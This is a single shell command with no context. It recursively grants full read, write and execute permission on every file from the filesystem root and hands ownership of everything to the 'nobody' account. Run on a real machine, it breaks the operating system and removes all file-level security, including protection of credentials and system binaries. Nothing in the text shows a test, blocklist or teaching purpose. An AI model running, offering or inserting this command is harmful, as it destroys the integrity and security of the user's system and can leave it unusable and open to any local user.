chmod -R 777 / && chown -R nobody /
